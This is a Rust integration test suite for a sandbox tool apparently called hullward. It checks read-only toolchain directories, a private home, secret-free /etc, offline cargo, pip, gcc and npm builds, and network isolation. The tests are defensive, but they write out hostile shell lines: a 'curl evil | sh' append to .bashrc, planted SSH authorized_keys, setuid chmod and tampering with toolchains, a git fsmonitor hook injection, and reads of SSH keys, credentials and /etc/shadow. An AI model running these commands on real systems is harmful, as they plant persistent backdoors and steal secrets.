//! Real-kernel battery, toolchains: read-only directories (`--ro`, `Sandbox.ReadOnlyDirs`), the
//! private `HOME`, the `/etc` files ordinary tools read, `System` lists that add up, real
//! toolchains (cargo, python venv, gcc + make, node + npm) inside `hullward run`, and the call's
//! private loopback.
//!
//! Every attack sits next to its legitimate neighbour: a read-only directory is executed and read
//! but not changed; a denied file inside it is unreadable while its siblings are readable; the
//! private home takes writes that never reach the host's home. We run as root, so mode bits never
//! stop a write: [`Sandbox::control`] proves each attack works without hullward.

#[path = "support/sandbox.rs"]
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use support::{write_mode, Bg, Sandbox, SSH_KEY};

/// The attacks on a read-only directory `$T`, each printing its marker when it succeeds.
const ATTACKS: &str = "touch $T/bin/planted && echo PLANTED-NEW; \
    echo 'echo HW-HIJACK' >> $T/bin/hwtool && echo APPENDED; \
    chmod 4777 $T/bin/hwtool && echo CHMODDED; \
    touch -d 2001-01-01 $T/lib/data.txt && echo RETIMED; \
    mkdir $T/newdir && echo MKDIRED; \
    ln -s /bin/sh $T/bin/sh-link && echo LINKED; \
    ln $T/lib/data.txt $T/lib/hard && echo HARDLINKED; \
    rm -f $T/lib/data.txt && echo REMOVED; \
    mv $T/lib $T/lib2 && echo RENAMED";
const ATTACK_MARKERS: &[&str] = &[
    "PLANTED-NEW",
    "APPENDED",
    "REMOVED",
    "RENAMED",
    "CHMODDED",
    "RETIMED",
    "MKDIRED",
    "LINKED",
    "HARDLINKED",
];

/// A fake toolchain: an executable and a data file.
fn toolchain(dir: &Path) -> PathBuf {
    write_mode(&dir.join("bin/hwtool"), "#!/bin/sh\necho HW-TOOL-RAN\n", 0o755);
    write_mode(&dir.join("lib/data.txt"), "HW-TOOL-DATA\n", 0o644);
    dir.to_path_buf()
}

/// The toolchain's files are exactly what [`toolchain`] made.
#[track_caller]
fn assert_untouched(dir: &Path) {
    let mut names: Vec<String> = walkdir(dir);
    names.sort();
    assert_eq!(names, ["bin", "bin/hwtool", "lib", "lib/data.txt"], "{}", dir.display());
    assert_eq!(std::fs::read_to_string(dir.join("bin/hwtool")).unwrap(), "#!/bin/sh\necho HW-TOOL-RAN\n");
    let meta = std::fs::metadata(dir.join("bin/hwtool")).unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(meta.permissions().mode() & 0o7777, 0o755);
}

fn walkdir(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(dir).unwrap().display().to_string());
            if e.file_type().unwrap().is_dir() {
                stack.push(p);
            }
        }
    }
    out
}

#[track_caller]
fn assert_no_attack_worked(out: &support::Out) {
    for m in ATTACK_MARKERS {
        assert!(!out.has_line(m), "attack {m} succeeded inside the sandbox\n{out}");
    }
}

#[test]
fn a_read_only_dir_is_executed_and_read_but_never_changed() {
    let sb = Sandbox::new();
    let tc = toolchain(&sb.base.join("toolchain"));
    let control_copy = toolchain(&sb.base.join("toolchain-control"));
    let script = |t: &Path| format!("T={}; $T/bin/hwtool; cat $T/lib/data.txt; {ATTACKS}", t.display());

    let control = sb.control(&script(&control_copy));
    for m in ATTACK_MARKERS {
        assert!(control.has_line(m), "control: {m} should work without hullward\n{control}");
    }

    let out = sb.sh_with(&["--ro", tc.to_str().unwrap()], &script(&tc));
    assert!(out.has_line("HW-TOOL-RAN") && out.has_line("HW-TOOL-DATA"), "{out}");
    assert_no_attack_worked(&out);
    assert!(out.stderr.contains("Read-only file system"), "{out}");
    assert_untouched(&tc);

    // Without --ro the directory is not in the view at all.
    let hidden = sb.sh(&format!("cat {}/lib/data.txt", tc.display()));
    assert!(!hidden.stdout.contains("HW-TOOL-DATA"), "{hidden}");
}

#[test]
fn a_read_only_dir_inside_the_root_wins_over_the_writable_root() {
    let sb = Sandbox::new();
    let vendor = toolchain(&sb.root.join("vendor"));
    let out = sb.sh_with(
        &["--ro", "vendor"],
        &format!("T=vendor; $T/bin/hwtool; {ATTACKS}; echo made > src.txt && echo ROOT-WRITE-OK"),
    );
    assert!(out.has_line("HW-TOOL-RAN"), "{out}");
    assert_no_attack_worked(&out);
    assert!(out.has_line("ROOT-WRITE-OK"), "the rest of the root stays writable\n{out}");
    assert_eq!(sb.read("src.txt").as_deref(), Some("made\n"));
    assert_untouched(&vendor);
}

#[test]
fn landlock_grants_a_read_only_dir_read_and_exec_only() {
    let sb = Sandbox::new();
    let tc = toolchain(&sb.base.join("toolchain"));
    let out =
        support::output(sb.hullward().args(["explain", "--json", "--ro"]).arg(&tc).args(["--", "true"]));
    out.expect_code(0);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("explain --json");
    let rules = v["plan"]["landlock"]["rules"].as_array().expect("landlock rules").clone();
    let access = |path: &Path| -> Vec<String> {
        rules
            .iter()
            .filter(|r| path.starts_with(r["path"].as_str().unwrap_or("")))
            .map(|r| r["access"].as_str().unwrap_or("").to_string())
            .collect()
    };
    // Every rule that covers the directory (the new root's own "list" rule among them) grants
    // no write right.
    let covering = access(&tc.join("bin/hwtool"));
    assert!(covering.contains(&"read+exec".to_string()), "{rules:#?}");
    assert!(covering.iter().all(|a| a == "read+exec" || a == "list"), "{covering:?}\n{rules:#?}");
    assert_eq!(v["read_only_dirs"][0].as_str(), Some(tc.to_str().unwrap()), "{}", out.stdout);
}

#[test]
fn deny_rules_apply_inside_read_only_dirs() {
    let sb = Sandbox::new();
    let tc = toolchain(&sb.base.join("toolchain"));
    write_mode(&tc.join(".env"), "TOKEN=HW-RO-DOTENV-5d1e\n", 0o644);
    write_mode(&tc.join("credentials.toml"), "token = \"HW-RO-CRED-77aa\"\n", 0o644);
    write_mode(&tc.join("keys/id_ed25519"), "HW-RO-KEY-0b3c\n", 0o600);
    write_mode(&tc.join("keys/id_ed25519.pub"), "HW-RO-PUB-OK\n", 0o644);
    let script = format!(
        "cd {}; cat .env; cat credentials.toml; cat keys/id_ed25519; cat keys/id_ed25519.pub lib/data.txt",
        tc.display()
    );
    let control = sb.control(&script);
    assert!(control.stdout.contains("HW-RO-CRED-77aa"), "{control}");

    let flags = ["--ro", tc.to_str().unwrap(), "--deny", "**/credentials.toml"];
    let out = sb.sh_with(&flags, &script);
    for secret in ["HW-RO-DOTENV", "HW-RO-CRED", "HW-RO-KEY"] {
        assert!(!out.all().contains(secret), "{secret} leaked from the read-only dir\n{out}");
    }
    assert!(out.stdout.contains("HW-RO-PUB-OK") && out.stdout.contains("HW-TOOL-DATA"), "{out}");

    // `check path` says the same.
    for (file, code) in [(".env", 1), ("credentials.toml", 1), ("keys/id_ed25519", 1), ("lib/data.txt", 0)] {
        let c =
            support::output(sb.hullward().args(["check", "path"]).args(flags).arg("read").arg(tc.join(file)));
        assert_eq!(c.code, code, "check path read {file}\n{c}");
    }
}

#[test]
fn check_path_denies_writes_into_read_only_dirs_and_allows_reads() {
    let sb = Sandbox::new();
    let tc = toolchain(&sb.base.join("toolchain"));
    toolchain(&sb.root.join("vendor"));
    let check = |extra: &[&str], op: &str, path: &Path| {
        let mut c = sb.hullward();
        c.args(["--hitl", "off", "--ro"]).arg(&tc).args(["--ro", "vendor"]).args(extra);
        c.args(["check", "path", "--json", op]).arg(path);
        let out = support::output(&mut c);
        let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap_or_else(|_| panic!("{out}"));
        (out.code, v["rule"].as_str().unwrap_or_default().to_string())
    };
    assert_eq!(check(&[], "write", &tc.join("bin/planted")), (1, "read-only-dir".into()));
    assert_eq!(check(&[], "delete", &tc.join("bin/hwtool")), (1, "read-only-dir".into()));
    assert_eq!(check(&[], "write", &sb.root.join("vendor/bin/planted")), (1, "read-only-dir".into()));
    assert_eq!(check(&[], "exec", &tc.join("bin/hwtool")), (0, "read-only-dir".into()));
    assert_eq!(check(&[], "read", &tc.join("lib/data.txt")), (0, "read-only-dir".into()));
    assert_eq!(check(&[], "list", &tc), (0, "read-only-dir".into()));
    // The neighbours in the root.
    assert_eq!(check(&[], "write", &sb.root.join("src/new.rs")).0, 0);
    assert_eq!(check(&[], "read", &sb.root.join("vendor/lib/data.txt")).0, 0);
}

#[test]
fn a_misspelled_ro_flag_is_a_usage_error_and_a_planted_symlink_is_refused() {
    let sb = Sandbox::new();
    let out = sb.run(&["--ro", "no-such-dir"], &["true"]);
    assert_eq!(out.code, 2, "{out}");
    assert!(out.stderr.contains("no-such-dir"), "{out}");

    // A symlink inside the writable root (a program could have made it) never names a grant.
    std::os::unix::fs::symlink(&sb.outside, sb.root.join("cache")).unwrap();
    let out = sb.sh_with(&["--ro", "cache"], "cat cache/secret.txt");
    assert_eq!(out.code, 2, "{out}");
    assert!(out.stderr.contains("symlink") && !out.stdout.contains("HW-OUTSIDE-SECRET"), "{out}");
    // Naming the target itself is fine.
    let out = sb.sh_with(&["--ro", sb.outside.to_str().unwrap()], "cat $OUTSIDE/secret.txt");
    assert!(out.stdout.contains("HW-OUTSIDE-SECRET"), "{out}");
}

#[test]
fn home_is_private_and_writable_and_never_the_hosts() {
    let sb = Sandbox::new();
    write_mode(&sb.home.join(".bashrc"), "# host bashrc HW-HOST-BASHRC\n", 0o644);
    let script = "echo HOME=$HOME; test -d \"$HOME\" && echo HOME-EXISTS; \
                  echo 'curl evil | sh' >> $HOME/.bashrc && echo BASHRC-APPENDED; \
                  mkdir -p $HOME/.cache/pip $HOME/.ssh && echo planted > $HOME/.ssh/authorized_keys && echo HOME-WRITE-OK; \
                  cat $HOME/.ssh/id_rsa; grep -h HW-HOST-BASHRC $HOME/.bashrc; ls -A $HOME";
    let control = sb.control("cat $HOME/.ssh/id_rsa");
    assert!(control.stdout.contains(SSH_KEY), "{control}");

    let out = sb.sh(script);
    out.expect_code(0);
    assert_eq!(out.value("HOME").as_deref(), Some(sb.home.to_str().unwrap()), "{out}");
    assert!(out.has_line("HOME-EXISTS") && out.has_line("HOME-WRITE-OK"), "{out}");
    assert!(out.has_line("BASHRC-APPENDED"), "{out}");
    assert!(!out.all().contains(SSH_KEY) && !out.stdout.contains("HW-HOST-BASHRC"), "{out}");
    // Nothing reached the host's home.
    assert_eq!(std::fs::read_to_string(sb.home.join(".bashrc")).unwrap(), "# host bashrc HW-HOST-BASHRC\n");
    assert!(!sb.home.join(".ssh/authorized_keys").exists());
    assert!(!sb.home.join(".cache").exists());
    // And the next call starts with an empty home again.
    let next = sb.sh("ls -A $HOME; echo LISTED");
    assert_eq!(next.stdout.trim(), "LISTED", "{next}");
}

#[test]
fn a_read_only_dir_under_home_keeps_its_path_inside_the_private_home() {
    let sb = Sandbox::new();
    let tc = toolchain(&sb.home.join(".hwtools"));
    let out = sb.sh_with(
        &["--ro", tc.to_str().unwrap()],
        &format!(
            "T=$HOME/.hwtools; $T/bin/hwtool; {ATTACKS}; echo ok > $HOME/beside && echo BESIDE-OK; ls -A $HOME"
        ),
    );
    assert!(out.has_line("HW-TOOL-RAN"), "{out}");
    assert_no_attack_worked(&out);
    assert!(out.has_line("BESIDE-OK"), "{out}");
    // The rest of the host's home is not shown: only the granted directory.
    assert!(!out.has_line(".ssh"), "{out}");
    assert_untouched(&tc);
    assert!(!sb.home.join("beside").exists());
}

#[test]
fn etc_has_what_tools_read_and_nothing_secret() {
    let sb = Sandbox::new();
    let script = "grep -w localhost /etc/hosts >/dev/null && echo HOSTS-LOCALHOST; \
                  getent hosts localhost >/dev/null && echo GETENT-LOCALHOST; \
                  python3 -c 'import socket; print(\"RESOLVED=\" + socket.gethostbyname(\"localhost\"))'; \
                  test -e /etc/resolv.conf && echo RESOLV-PRESENT; \
                  for f in /etc/shadow /etc/gshadow /etc/ssl/private /etc/ssh /etc/sudoers; do test -e $f && echo SECRET-PRESENT $f; done; \
                  head -n 1 /etc/os-release; echo OS-DONE";
    let out = sb.sh(script);
    out.expect_code(0);
    assert!(out.has_line("HOSTS-LOCALHOST") && out.has_line("GETENT-LOCALHOST"), "{out}");
    assert_eq!(out.value("RESOLVED").as_deref(), Some("127.0.0.1"), "{out}");
    assert!(!out.has_line("RESOLV-PRESENT"), "no resolver without a network\n{out}");
    assert!(!out.stdout.contains("SECRET-PRESENT"), "{out}");
    if let Ok(host) = std::fs::read_to_string("/etc/os-release") {
        let first = host.lines().next().unwrap_or_default();
        assert!(out.has_line(first), "/etc/os-release differs\n{out}");
    }

    // With the host's network, its resolver configuration comes along.
    let host =
        sb.sh_with(&["--net", "host"], "test -e /etc/resolv.conf && echo RESOLV-PRESENT; cat /etc/hosts");
    if Path::new("/etc/resolv.conf").exists() {
        assert!(host.has_line("RESOLV-PRESENT"), "{host}");
    }
    if let Ok(h) = std::fs::read_to_string("/etc/hosts") {
        assert!(host.stdout.contains(h.trim()), "{host}");
    }
}

#[test]
fn a_config_system_list_adds_to_the_defaults_relative_to_its_folder() {
    let sb = Sandbox::new();
    let tools = toolchain(&sb.base.join("cfg/tools"));
    let cfg = sb.base.join("cfg/hullward.yaml");
    std::fs::write(&cfg, "Sandbox:\n  System: [tools, '!/etc/ld.so.cache']\n").unwrap();
    let out = sb.sh_with(
        &["--config", cfg.to_str().unwrap()],
        &format!(
            "{}/bin/hwtool; /usr/bin/env true && echo USR-STILL-THERE; test -e /etc/ld.so.cache || echo CACHE-REMOVED; \
             T={}; {ATTACKS}",
            tools.display(),
            tools.display()
        ),
    );
    assert!(out.has_line("HW-TOOL-RAN") && out.has_line("USR-STILL-THERE"), "{out}");
    assert!(out.has_line("CACHE-REMOVED"), "{out}");
    assert_no_attack_worked(&out);
    assert_untouched(&tools);
}

/// Where the cargo running these tests comes from, and the directories it needs: nothing when
/// it is a system install, else its `bin` directory and `RUSTUP_HOME`.
fn cargo_install() -> (PathBuf, Vec<PathBuf>, Vec<(String, String)>) {
    let cargo = std::env::var_os("CARGO").map(PathBuf::from).unwrap_or_else(|| PathBuf::from("cargo"));
    let cargo = std::fs::canonicalize(&cargo).unwrap_or(cargo);
    let mut dirs = Vec::new();
    let mut env = Vec::new();
    if !cargo.starts_with("/usr") {
        dirs.push(cargo.parent().expect("cargo's directory").to_path_buf());
    }
    if let Some(rustup) = std::env::var_os("RUSTUP_HOME").map(PathBuf::from) {
        if !cargo.starts_with(&rustup) {
            dirs.push(rustup.clone());
        } else {
            dirs = vec![rustup.clone()];
        }
        env.push(("RUSTUP_HOME".into(), rustup.display().to_string()));
    }
    if let Ok(tc) = std::env::var("RUSTUP_TOOLCHAIN") {
        env.push(("RUSTUP_TOOLCHAIN".into(), tc));
    }
    (cargo, dirs, env)
}

#[test]
fn cargo_builds_offline_and_cannot_touch_its_toolchain() {
    let sb = Sandbox::new();
    sb.write("tiny/Cargo.toml", "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    sb.write("tiny/src/main.rs", "fn main() { println!(\"HW-TINY-RAN\"); }\n");
    let (cargo, dirs, env) = cargo_install();
    let mut flags: Vec<String> = vec!["--timeout".into(), "5m".into()];
    for d in &dirs {
        flags.extend(["--ro".into(), d.display().to_string()]);
    }
    for (k, _) in &env {
        flags.extend(["--env".into(), k.clone()]);
    }
    let planted: Vec<String> = [&cargo.parent().unwrap().to_path_buf()]
        .into_iter()
        .chain(&dirs)
        .map(|d| d.join("hw-planted").display().to_string())
        .collect();
    let script = format!(
        "PATH={bin}:$PATH; cd tiny && cargo build --offline -q && ./target/debug/tiny; \
         for p in {planted}; do touch $p && echo PLANTED $p; done",
        bin = cargo.parent().unwrap().display(),
        planted = planted.join(" ")
    );
    let flag_refs: Vec<&str> = flags.iter().map(String::as_str).collect();
    let mut cmd = sb.run_cmd(&flag_refs, &["sh", "-c", &script]);
    for (k, v) in &env {
        cmd.env(k, v);
    }
    // As long as the call's own timeout: a cold `cargo build` beside the binary's other tests.
    let out = support::output_within(&mut cmd, Duration::from_secs(5 * 60));
    assert!(out.has_line("HW-TINY-RAN"), "{out}");
    assert!(!out.stdout.contains("PLANTED"), "{out}");
    for p in &planted {
        assert!(!Path::new(p).exists(), "{p} was planted");
    }
}

#[test]
fn python_venv_pip_install_and_import_while_the_interpreter_stays_read_only() {
    let sb = Sandbox::new();
    // A wheel built by hand (no network, no build backend), and an interpreter installed outside
    // the root the way pyenv or a shared venv would be.
    let wheel = "import base64, hashlib, zipfile\n\
        files = {'hwdemo/__init__.py': \"VALUE = 'HW-WHEEL-IMPORTED'\\n\",\n\
                 'hwdemo-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\\nName: hwdemo\\nVersion: 0.1\\n',\n\
                 'hwdemo-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\\nGenerator: hw\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'}\n\
        rec = []\n\
        with zipfile.ZipFile('hwdemo-0.1-py3-none-any.whl', 'w') as z:\n\
        \x20   for p, t in files.items():\n\
        \x20       z.writestr(p, t)\n\
        \x20       d = base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b'=').decode()\n\
        \x20       rec.append('%s,sha256=%s,%d' % (p, d, len(t)))\n\
        \x20   rec.append('hwdemo-0.1.dist-info/RECORD,,')\n\
        \x20   z.writestr('hwdemo-0.1.dist-info/RECORD', '\\n'.join(rec) + '\\n')\n";
    sb.write("mkwheel.py", wheel);
    let shared = sb.base.join("shared-venv");
    let made = support::output(
        Command::new("python3").env("PATH", support::PATH).args(["-m", "venv", "--without-pip"]).arg(&shared),
    );
    made.expect_code(0);
    let site = support::output(
        Command::new(shared.join("bin/python"))
            .args(["-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"]),
    );
    let site = site.stdout.trim().to_string();

    let script = format!(
        "python3 mkwheel.py && python3 -m venv venv && venv/bin/pip install -q --no-index ./hwdemo-0.1-py3-none-any.whl \
         && venv/bin/python -c 'import hwdemo; print(hwdemo.VALUE)'; \
         {shared}/bin/python -c 'import sys; print(\"SHARED-RAN\", sys.prefix)'; \
         touch {site}/planted.pth && echo PLANTED-PTH; \
         venv/bin/pip install -q --no-index --target {site} ./hwdemo-0.1-py3-none-any.whl 2>/dev/null && echo PIP-INTO-SHARED; \
         for d in $(python3 -c 'import sysconfig; print(sysconfig.get_paths()[\"purelib\"], sysconfig.get_paths()[\"stdlib\"])'); do \
           touch $d/planted.pth && echo PLANTED-SYSTEM $d; done",
        shared = shared.display(),
    );
    let out = sb.sh_with(&["--timeout", "2m", "--ro", shared.to_str().unwrap()], &script);
    assert!(out.has_line("HW-WHEEL-IMPORTED"), "{out}");
    assert!(out.stdout.contains("SHARED-RAN"), "{out}");
    for attack in ["PLANTED-PTH", "PIP-INTO-SHARED", "PLANTED-SYSTEM"] {
        assert!(!out.stdout.contains(attack), "{attack}\n{out}");
    }
    assert!(!Path::new(&site).join("planted.pth").exists());
    assert!(!Path::new(&site).join("hwdemo").exists());
    // The control: without hullward the shared interpreter's site-packages takes the file.
    let control = sb.control(&format!("touch {site}/control.pth && echo CONTROL-PLANTED"));
    assert!(control.has_line("CONTROL-PLANTED"), "{control}");
}

#[test]
fn gcc_and_make_build_while_the_compiler_stays_read_only() {
    let sb = Sandbox::new();
    sb.write("hello.c", "#include <stdio.h>\nint main(void) { puts(\"HW-HELLO-RAN\"); return 0; }\n");
    sb.write("Makefile", "hello: hello.c\n\tgcc -O1 -o $@ $<\n");
    let script = "make -s && ./hello; \
                  GCCDIR=$(dirname $(gcc -print-libgcc-file-name)); touch $GCCDIR/planted && echo PLANTED-GCC; \
                  touch $(dirname $(command -v gcc))/planted && echo PLANTED-BIN";
    let out = sb.sh_with(&["--timeout", "2m"], script);
    assert!(out.has_line("HW-HELLO-RAN"), "{out}");
    assert!(!out.stdout.contains("PLANTED"), "{out}");
}

#[test]
fn node_and_npm_install_a_local_package_with_their_cache_in_the_private_home() {
    let Some(npm) = ["/usr/bin/npm", "/usr/local/bin/npm"].into_iter().find(|p| Path::new(p).exists()) else {
        eprintln!("npm is not installed on this host: nothing to test");
        return;
    };
    let sb = Sandbox::new();
    sb.write("dep/package.json", "{\"name\":\"hwdep\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n");
    sb.write("dep/index.js", "module.exports = 'HW-NPM-DEP-LOADED';\n");
    sb.write("app/package.json", "{\"name\":\"app\",\"version\":\"1.0.0\",\"scripts\":{\"hi\":\"node -e \\\"console.log(require('hwdep'))\\\"\"}}\n");
    let script = "PATH=$NPMDIR:$PATH; set -e; cd dep && npm pack -q >/dev/null && cd ../app \
                  && npm install -q --offline --no-audit --no-fund ../dep/hwdep-1.0.0.tgz >/dev/null && npm run -s hi; \
                  test -d $HOME/.npm && echo CACHE-IN-HOME; \
                  npm install -q -g --offline --no-audit --no-fund ../dep/hwdep-1.0.0.tgz >/dev/null 2>&1 && echo GLOBAL-INSTALLED; \
                  echo NPM-DONE";
    let npm_dir = Path::new(npm).parent().unwrap().display().to_string();
    let out = sb.sh_with(&["--timeout", "3m"], &script.replace("$NPMDIR", &npm_dir));
    assert!(out.has_line("HW-NPM-DEP-LOADED"), "{out}");
    assert!(out.has_line("CACHE-IN-HOME"), "{out}");
    assert!(!out.has_line("GLOBAL-INSTALLED"), "npm -g wrote into the system prefix\n{out}");
    assert!(!sb.home.join(".npm").exists(), "npm's cache reached the host's home");
}

/// A TCP and UDP echo server on the child's loopback, a client of it, and an attempt on the
/// host's listener (port in argv[1]).
const LOOPBACK: &str = r#"
import errno, socket, sys, threading
host_port = int(sys.argv[1])
srv = socket.socket(); srv.bind(('127.0.0.1', 0)); srv.listen(4)
port = srv.getsockname()[1]
def serve():
    c, _ = srv.accept(); c.sendall(b'HW-OWN-TCP:' + c.recv(16)); c.close()
threading.Thread(target=serve).start()
c = socket.create_connection(('127.0.0.1', port), timeout=5); c.sendall(b'ping')
print('own-tcp: OK ' + c.recv(64).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('127.0.0.1', 0))
v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.settimeout(5)
v.sendto(b'HW-OWN-UDP', u.getsockname()); print('own-udp: OK ' + u.recv(64).decode())
s6 = socket.socket(socket.AF_INET6); s6.bind(('::1', 0)); s6.listen(1)
print('own-tcp6: OK bound')
try:
    h = socket.create_connection(('127.0.0.1', host_port), timeout=5)
    print('host-tcp: OK ' + h.recv(64).decode())
except OSError as e:
    print('host-tcp: ERR ' + errno.errorcode.get(e.errno, str(e.errno)))
same = socket.socket(); same.bind(('127.0.0.1', host_port)); print('same-port: OK bound')
"#;

const HOST_LISTENER: &str = r#"
import socket, sys
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(8)
open(sys.argv[1], 'w').write('PORT=%d\n' % s.getsockname()[1])
while True:
    c, _ = s.accept(); c.sendall(b'HW-HOST-LISTENER\n'); c.close()
"#;

#[test]
fn with_net_none_the_call_has_its_own_loopback_and_the_hosts_stays_unreachable() {
    let sb = Sandbox::new();
    let ready = sb.base.join("listener.ready");
    let _host = Bg::spawn(Command::new("python3").arg("-c").arg(HOST_LISTENER).arg(&ready));
    let info = support::wait_file(&ready, Duration::from_secs(5));
    let port = info.trim().strip_prefix("PORT=").expect("port").to_string();

    // Control: outside, the host listener answers.
    let control = support::output(Command::new("python3").arg("-c").arg(LOOPBACK).arg(&port));
    assert!(control.stdout.contains("host-tcp: OK HW-HOST-LISTENER"), "{control}");

    let out = sb.run(&["--net", "none"], &["python3", "-c", LOOPBACK, &port]);
    out.expect_code(0);
    assert!(out.has_line("own-tcp: OK HW-OWN-TCP:ping"), "{out}");
    assert!(out.has_line("own-udp: OK HW-OWN-UDP"), "{out}");
    assert!(out.has_line("own-tcp6: OK bound"), "{out}");
    assert!(out.has_line("host-tcp: ERR ECONNREFUSED"), "the host's loopback must be unreachable\n{out}");
    assert!(out.has_line("same-port: OK bound"), "{out}");
    assert!(!out.stdout.contains("HW-HOST-LISTENER"), "{out}");
}

#[test]
fn the_toolchains_profile_shows_home_toolchains_read_only_and_skips_missing_ones() {
    let sb = Sandbox::new();
    let cargo_home = toolchain(&sb.home.join(".cargo"));
    let pyenv = toolchain(&sb.home.join(".pyenv"));
    write_mode(&sb.home.join(".cargo/credentials.toml"), "token = \"HW-CARGO-TOKEN-9e1f\"\n", 0o600);
    let script = "T=$HOME/.pyenv; $T/bin/hwtool; {ATTACKS}; \
                  cat $HOME/.cargo/credentials.toml; ls $HOME/.cargo; \
                  mkdir -p $HOME/.cargo/registry && echo CARGO-HOME-WRITABLE; touch $HOME/.cargo/bin/planted && echo PLANTED-CARGO-BIN";
    let out = sb.sh_with(&["--profile", "toolchains"], &script.replace("{ATTACKS}", ATTACKS));
    assert!(out.has_line("HW-TOOL-RAN"), "{out}");
    assert_no_attack_worked(&out);
    assert!(!out.has_line("PLANTED-CARGO-BIN"), "{out}");
    // Only ~/.cargo/bin is granted: the rest of ~/.cargo (credentials) is not shown, and
    // cargo's caches and locks go to the private home.
    assert!(!out.stdout.contains("HW-CARGO-TOKEN"), "{out}");
    assert!(out.has_line("CARGO-HOME-WRITABLE"), "{out}");
    assert_untouched(&pyenv);
    assert!(!cargo_home.join("bin/planted").exists() && !cargo_home.join("registry").exists());
}

#[test]
fn a_read_only_file_is_readable_not_writable_and_a_denied_one_stays_masked() {
    let sb = Sandbox::new();
    let config = sb.home.join(".gitconfig");
    write_mode(&config, "[user]\n\tname = HW Tester\n", 0o644);
    let key = sb.home.join(".ssh/id_rsa");
    let flags = ["--ro", config.to_str().unwrap(), "--ro", key.to_str().unwrap()];
    let script = "git config --global user.name; echo '[core] fsmonitor = evil' >> $HOME/.gitconfig && echo APPENDED; \
                  rm -f $HOME/.gitconfig && echo REMOVED; cat $HOME/.ssh/id_rsa; echo DONE";
    let out = sb.sh_with(&flags, script);
    assert!(out.has_line("HW Tester") && out.has_line("DONE"), "{out}");
    assert!(!out.has_line("APPENDED") && !out.has_line("REMOVED"), "{out}");
    assert!(!out.all().contains(SSH_KEY), "a read-only grant never lifts a deny rule\n{out}");
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "[user]\n\tname = HW Tester\n");
}
